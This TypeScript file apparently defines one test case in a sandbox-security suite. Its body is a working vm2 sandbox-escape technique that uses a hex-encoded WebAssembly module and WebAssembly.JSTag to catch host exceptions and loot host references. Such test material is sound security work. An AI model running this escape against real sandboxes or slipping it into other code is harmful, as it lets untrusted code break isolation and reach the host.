import { attack } from '../attack.ts';

/** WebAssembly catches what JavaScript threw, as a reference, past every `catch` of the text (vm2 CVE-2026-26956). */
export const escape = attack({
	grants: ['plain', 'report'],
	source: `
		if (typeof WebAssembly !== 'object' || !WebAssembly.JSTag) return;
		const hex = '0061736d01000000010c0360000060016f006000016f020e0201650174040001016501660000030201020705010167000' + '10a120110' + '00026f1f400100000010000bd06f0b0b';
		const bytes = new Uint8Array(hex.match(/../g).map((pair) => parseInt(pair, 16)));
		const failures = [() => { const error = new Error(); error.name = Symbol(); return error.stack; }, () => report(Symbol()), () => plain.echo(() => {}), () => { (function deeper() { deeper(); })(); }];
		const found = [];
		const module = new WebAssembly.Module(bytes);
		for (const f of failures) { try { found.push(new WebAssembly.Instance(module, { e: { t: WebAssembly.JSTag, f } }).exports.g()); } catch {} }
		for (const each of found) { const got = loot(each); if (got) return got; }
		return found.length;
	`,
});
